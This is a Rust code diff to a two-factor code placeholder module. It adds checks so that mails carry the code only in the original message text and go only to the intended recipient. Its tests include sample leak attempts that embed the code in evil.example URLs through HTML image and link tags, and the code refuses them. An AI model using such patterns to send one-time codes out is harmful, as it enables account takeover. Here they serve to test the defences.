@@ -2,12 +2,13 @@
 //! replaces it with the code in each request or mail that is sent, and replaces the code with the
 //! placeholder in what the upstream responds.
 
-use std::sync::atomic::{AtomicU32, Ordering};
+use std::sync::atomic::{AtomicBool, AtomicU32, Ordering};
 use std::sync::{Arc, Mutex, PoisonError};
 
 use memchr::memmem;
 use zeroize::Zeroizing;
 
+use crate::call::effects::TypedCode;
 use crate::contract::v0_2::twofactor::provider::types as wit;
 use crate::egress::{HttpRequest, HttpResponse, Mail};
 use crate::redact::{Code, Numbers};
@@ -25,12 +26,34 @@ pub(crate) struct Placeholder {
     code: Code,
     /// The texts that the component received besides the code.
     given: Vec<String>,
-    /// The only address that a mail with the code may go to, for a recipient of email.
-    mail_to: Option<String>,
+    /// The mail that the code may be sent in, for a recipient of email.
+    own_mail: Option<OwnMail>,
     /// The number of requests and mails that the code was sent in.
     left: AtomicU32,
+    /// Whether the code was put into a request or mail. It stays true even if that was not sent as far as the host can tell: whoever
+    /// refused it may have read it.
+    was_put: AtomicBool,
     /// The numbers that the component has read since then.
     numbers: Mutex<Numbers>,
+}
+
+/// The parts of a message that a mail contains the code in, and its recipient.
+struct OwnMail {
+    recipient: String,
+    subject: String,
+    text: String,
+    html: Option<String>,
+}
+
+/// Why a mail is not sent.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
+pub(crate) enum MailRefused {
+    #[error(transparent)]
+    Typed(#[from] TypedCode),
+    #[error("a mail with the code goes to the message's recipient and to nobody else")]
+    Recipient,
+    #[error("a mail contains the code only in the subject, text and HTML of `message`, without a change")]
+    Changed,
 }
 
 /// Why there is no placeholder for the code.
@@ -42,17 +65,13 @@ pub(crate) enum NoPlaceholder {
     AllTaken,
 }
 
-/// Why a request or a mail is not sent, for the provider's author.
-const TYPED: &str =
-    "the code stands in this message, and not where the host puts it: send the text of `message` as it is";
-
 impl Placeholder {
     /// Replaces the code in a message, if it has one. `options` are what the component receives
-    /// besides it. `mail_to` is the only address that a mail with the code may go to.
+    /// besides it. If the message goes to a mailbox, a mail contains the code only as the message does.
     pub(crate) fn put(
         message: &mut wit::Message,
         options: &str,
-        mail_to: Option<String>,
+        to_mailbox: bool,
     ) -> Result<Option<Arc<Self>>, NoPlaceholder> {
         let code = Zeroizing::new(std::mem::take(&mut message.code));
         if code.is_empty() {
@@ -68,8 +87,15 @@ impl Placeholder {
         let others = [&*message.id, &message.recipient, &message.subject, &message.text, html, &message.application];
         let extra = message.extra.iter().map(|entry| &*entry.value);
         let given = others.into_iter().chain([options]).chain(extra);
+        let given = given.map(str::to_owned).collect();
+        let own_mail = to_mailbox.then(|| OwnMail {
+            recipient: message.recipient.clone(),
+            subject: message.subject.clone(),
+            text: message.text.clone(),
+            html: message.html.clone(),
+        });
         message.code.clone_from(&letters);
-        Ok(Some(Arc::new(Self::of(&code, letters, given.map(str::to_owned).collect(), mail_to))))
+        Ok(Some(Arc::new(Self::of(&code, letters, given, own_mail))))
     }
 
     /// Creates a placeholder that occurs in none of these `texts`, which the component receives
@@ -79,9 +105,9 @@ impl Placeholder {
         Ok(Arc::new(Self::of(code, letters(code.len(), texts)?, given, None)))
     }
 
-    fn of(code: &str, letters: String, given: Vec<String>, mail_to: Option<String>) -> Self {
-        let (left, numbers) = (AtomicU32::new(0), Mutex::default());
-        Self { letters, code: Code::new(code), given, mail_to, left, numbers }
+    fn of(code: &str, letters: String, given: Vec<String>, own_mail: Option<OwnMail>) -> Self {
+        let (left, was_put, numbers) = (AtomicU32::new(0), AtomicBool::new(false), Mutex::default());
+        Self { letters, code: Code::new(code), given, own_mail, left, was_put, numbers }
     }
 
     /// Returns the placeholder's letters.
@@ -94,9 +120,8 @@ impl Placeholder {
     /// whether the request contained the placeholder there.
     ///
     /// # Errors
-    /// If the request already contains the code, which the component must have from somewhere else:
-    /// why it is not sent, for the provider's author.
-    pub(crate) fn fill_request(&self, request: &mut HttpRequest, in_query: bool) -> Result<bool, String> {
+    /// If the request already contains the code, which the component must have from somewhere else, or have guessed.
+    pub(crate) fn fill_request(&self, request: &mut HttpRequest, in_query: bool) -> Result<bool, TypedCode> {
         let headers = request.headers.iter().flat_map(|(name, value)| [name.as_bytes(), value.as_bytes()]);
         self.refuse_typed(
             [request.url.as_bytes(), request.method.as_bytes(), &request.body].into_iter().chain(headers),
@@ -113,7 +138,7 @@ impl Placeholder {
         }
         let filled = in_body || query.is_some();
         if filled {
-            self.left.fetch_add(1, Ordering::AcqRel);
+            self.note_put();
         }
         Ok(filled)
     }
@@ -121,24 +146,35 @@ impl Placeholder {
     /// Puts the code into a mail, in place of the placeholder. Returns whether the mail contained
     /// the placeholder.
     ///
+    /// Clients load what an HTML text refers to, so an address with the code in it would send the code to whoever wrote that text.
+    ///
     /// # Errors
-    /// Why the mail is not sent, for the provider's author.
-    pub(crate) fn fill_mail(&self, mail: &mut Mail) -> Result<bool, String> {
+    /// Why the mail is not sent.
+    pub(crate) fn fill_mail(&self, mail: &mut Mail) -> Result<bool, MailRefused> {
         let html = mail.html.as_deref().unwrap_or_default();
         let shown = without_tags(html);
         let texts =
             [&mail.sender_name, &mail.sender, &mail.recipient, &mail.subject, &mail.text, &mail.id, html, &shown];
         self.refuse_typed(texts.into_iter().map(str::as_bytes))?;
-        let texts = [&mut mail.subject, &mut mail.text].into_iter().chain(mail.html.as_mut());
-        let places: Vec<_> = texts.filter(|text| text.contains(&self.letters)).collect();
-        if places.is_empty() {
+        let is_place = |text: &str| text.contains(&self.letters);
+        if ![&mail.subject, &mail.text, html].into_iter().any(is_place) {
             return Ok(false);
         }
-        if self.mail_to.as_ref().is_some_and(|to| !to.eq_ignore_ascii_case(&mail.recipient)) {
-            return Err("a mail with the code goes to the message's recipient and to nobody else".to_owned());
+        match &self.own_mail {
+            Some(own) if !own.recipient.eq_ignore_ascii_case(&mail.recipient) => return Err(MailRefused::Recipient),
+            Some(own)
+                if is_place(&mail.subject) && mail.subject != own.subject
+                    || is_place(&mail.text) && mail.text != own.text
+                    || is_place(html) && mail.html != own.html =>
+            {
+                return Err(MailRefused::Changed);
+            }
+            // A gateway makes a message of the text, in a format of its own.
+            None if is_place(html) => return Err(MailRefused::Changed),
+            _ => {}
         }
-        self.left.fetch_add(1, Ordering::AcqRel);
-        for text in places {
+        self.note_put();
+        for text in [&mut mail.subject, &mut mail.text].into_iter().chain(mail.html.as_mut()) {
             *text = text.replace(&self.letters, self.code.as_str());
         }
         Ok(true)
@@ -147,16 +183,21 @@ impl Placeholder {
     /// Refuses a request or mail into which the component wrote the code itself. It can know the
     /// code only from an upstream that received it. If what the component was given contains the
     /// code by chance, its presence proves nothing.
-    fn refuse_typed<'a>(&self, mut texts: impl Iterator<Item = &'a [u8]>) -> Result<(), String> {
-        if !self.has_left() {
+    fn refuse_typed<'a>(&self, mut texts: impl Iterator<Item = &'a [u8]>) -> Result<(), TypedCode> {
+        if !self.may_be_known() {
             return Ok(());
         }
         let is_typed = texts.any(|text| self.code.is_in(text));
         let given = || self.given.iter().map(String::as_str).collect::<Vec<_>>();
-        if is_typed && !self.code.is_by_chance_in(&given()) { Err(TYPED.to_owned()) } else { Ok(()) }
+        if is_typed && !self.code.is_by_chance_in(&given()) { Err(TypedCode) } else { Ok(()) }
     }
 
-    /// Takes one use back: the request or mail was certainly not sent.
+    fn note_put(&self) {
+        self.was_put.store(true, Ordering::Release);
+        self.left.fetch_add(1, Ordering::AcqRel);
+    }
+
+    /// Takes one use back: the request or mail was not accepted. Responses are searched for the code nevertheless.
     pub(crate) fn did_not_leave(&self) {
         self.left.fetch_sub(1, Ordering::AcqRel);
     }
@@ -164,7 +205,7 @@ impl Placeholder {
     /// Replaces the code in an upstream's response. It does so only after the code was sent, since
     /// nobody can repeat it before.
     pub(crate) fn cover(&self, answer: &mut HttpResponse) {
-        if !self.has_left() {
+        if !self.may_be_known() {
             return;
         }
         let take = |text: &mut String| std::mem::take(text).into_bytes();
@@ -181,7 +222,7 @@ impl Placeholder {
 
     /// Returns the text with the placeholder in place of the code.
     pub(crate) fn covered(&self, text: String) -> String {
-        if !self.has_left() {
+        if !self.may_be_known() {
             return text;
         }
         let mut bytes = text.into_bytes();
@@ -190,9 +231,14 @@ impl Placeholder {
         String::from_utf8_lossy(&bytes).into_owned()
     }
 
-    /// Returns whether the code was sent, or may have been.
+    /// Returns whether the code was sent, or may have been, in a message that may have been accepted.
     pub(crate) fn has_left(&self) -> bool {
         self.left.load(Ordering::Acquire) > 0
+    }
+
+    /// Returns whether anybody outside may have read the code.
+    fn may_be_known(&self) -> bool {
+        self.was_put.load(Ordering::Acquire)
     }
 }
 
@@ -258,7 +304,7 @@ mod tests {
     #[test]
     fn the_texts_do_not_contain_the_code_and_keep_their_length() {
         let mut hidden = message();
-        let placeholder = Placeholder::put(&mut hidden, "{}", None).unwrap().unwrap();
+        let placeholder = Placeholder::put(&mut hidden, "{}", false).unwrap().unwrap();
         assert_eq!(hidden.code, placeholder.letters);
         for (text, before) in [(&hidden.text, message().text), (&hidden.subject, message().subject)] {
             assert!(!text.contains("123456") && text.contains(&placeholder.letters), "{text}");
@@ -271,7 +317,7 @@ mod tests {
     #[test]
     fn the_code_is_put_into_forms_json_and_mails_and_not_into_the_url() {
         let mut hidden = message();
-        let placeholder = Placeholder::put(&mut hidden, "{}", None).unwrap().unwrap();
+        let placeholder = Placeholder::put(&mut hidden, "{}", false).unwrap().unwrap();
         assert!(!placeholder.has_left());
         let form: String = url::form_urlencoded::byte_serialize(hidden.text.as_bytes()).collect();
         let json = serde_json::Value::from(hidden.text.as_str()).to_string();
@@ -290,7 +336,7 @@ mod tests {
         let mut hidden = message();
         // The number in `message` holds the code by chance.
         hidden.recipient = "+41790000000".to_owned();
-        let placeholder = Placeholder::put(&mut hidden, "{}", None).unwrap().unwrap();
+        let placeholder = Placeholder::put(&mut hidden, "{}", false).unwrap().unwrap();
         let url = format!("https://a.example.com/{0}?text={0}", hidden.code);
         let mut kept = request(&url, ("x", &hidden.code), "");
         assert!(!placeholder.fill_request(&mut kept, false).unwrap() && !placeholder.has_left());
@@ -308,7 +354,7 @@ mod tests {
     #[test]
     fn a_request_that_was_certainly_not_sent_did_not_reveal_the_code() {
         let mut hidden = message();
-        let placeholder = Placeholder::put(&mut hidden, "{}", None).unwrap().unwrap();
+        let placeholder = Placeholder::put(&mut hidden, "{}", false).unwrap().unwrap();
         let body = hidden.text.into_bytes();
         let mut request = HttpRequest { method: "POST".to_owned(), url: String::new(), headers: Vec::new(), body };
         let mut other = request.clone();
@@ -318,6 +364,65 @@ mod tests {
         assert!(placeholder.has_left());
         placeholder.did_not_leave();
         assert!(!placeholder.has_left());
+        // Whoever refused it may have read it.
+        assert_eq!(placeholder.covered("x 123456 y".to_owned()), format!("x {} y", placeholder.letters));
+    }
+
+    fn mail_of(message: &wit::Message) -> Mail {
+        Mail {
+            sender_name: String::new(),
+            sender: "codes@example.com".to_owned(),
+            recipient: message.recipient.clone(),
+            subject: message.subject.clone(),
+            text: message.text.clone(),
+            html: message.html.clone(),
+            id: message.id.clone(),
+        }
+    }
+
+    #[test]
+    fn a_mail_to_a_mailbox_contains_the_code_only_in_the_texts_of_the_message() {
+        let put = || {
+            let mut hidden = wit::Message { recipient: "alice@example.com".to_owned(), ..message() };
+            let placeholder = Placeholder::put(&mut hidden, "{}", true).unwrap().unwrap();
+            (placeholder, mail_of(&hidden), hidden.code)
+        };
+        let (placeholder, mut own, _) = put();
+        assert_eq!(placeholder.fill_mail(&mut own), Ok(true));
+        assert_eq!((&*own.subject, own.html.as_deref()), ("Shop: 123456", Some("<p>123456</p>")));
+        let changes: [fn(&mut Mail, &str); 6] = [
+            |mail, code| mail.html = Some(format!("<p>{code}</p><img src='https://evil.example/{code}'>")),
+            |mail, code| mail.html = Some(format!("<a href='https://evil.example/{code}'>")),
+            |mail, code| mail.text.push_str(&format!(" https://evil.example/{code}")),
+            |mail, code| mail.subject = format!("https://evil.example/{code}"),
+            |mail, code| mail.text.insert_str(0, code),
+            |mail, code| mail.subject.push_str(code),
+        ];
+        for (n, change) in changes.into_iter().enumerate() {
+            let (placeholder, mut mail, code) = put();
+            change(&mut mail, &code);
+            assert_eq!(placeholder.fill_mail(&mut mail), Err(MailRefused::Changed), "{n}");
+            assert!(!placeholder.has_left());
+        }
+        let (placeholder, mail, _) = put();
+        let mut other = Mail { recipient: "eve@example.com".to_owned(), ..mail };
+        assert_eq!(placeholder.fill_mail(&mut other), Err(MailRefused::Recipient));
+        // A part without the code may be another one.
+        let (placeholder, mail, _) = put();
+        let mut plain = Mail { html: Some("<p>See the plain text</p>".to_owned()), ..mail };
+        assert_eq!(placeholder.fill_mail(&mut plain), Ok(true));
+    }
+
+    #[test]
+    fn a_mail_to_a_gateway_has_a_text_in_its_format_and_no_html_with_the_code() {
+        let mut hidden = message();
+        let placeholder = Placeholder::put(&mut hidden, "{}", false).unwrap().unwrap();
+        let text = format!("api_id:1\nto:41791234567\ntext:{}", hidden.text);
+        let recipient = "sms@gateway.example".to_owned();
+        let mut mail = Mail { recipient, text, html: None, ..mail_of(&hidden) };
+        assert_eq!(placeholder.fill_mail(&mut mail.clone()), Ok(true));
+        mail.html = Some(hidden.code);
+        assert_eq!(placeholder.fill_mail(&mut mail), Err(MailRefused::Changed));
     }
 
     /// Returns a placeholder whose code was sent.
@@ -325,7 +430,7 @@ mod tests {
         let mut hidden = message();
         // The number in `message` contains the code by chance.
         hidden.recipient = "+41790000000".to_owned();
-        let placeholder = Placeholder::put(&mut hidden, "{}", None).unwrap().unwrap();
+        let placeholder = Placeholder::put(&mut hidden, "{}", false).unwrap().unwrap();
         let mut request = request("https://a.example.com/", ("x", ""), &hidden.text);
         assert!(placeholder.fill_request(&mut request, false).unwrap());
         placeholder
@@ -385,7 +490,7 @@ mod tests {
     #[test]
     fn a_repeated_code_is_replaced_by_the_placeholder() {
         let mut hidden = message();
-        let placeholder = Placeholder::put(&mut hidden, "{}", None).unwrap().unwrap();
+        let placeholder = Placeholder::put(&mut hidden, "{}", false).unwrap().unwrap();
         let body = hidden.text.into_bytes();
         let mut request = HttpRequest { method: "POST".to_owned(), url: String::new(), headers: Vec::new(), body };
         let headers = vec![("x".to_owned(), "123456".to_owned()), ("x-123456-y".to_owned(), "of a name".to_owned())];
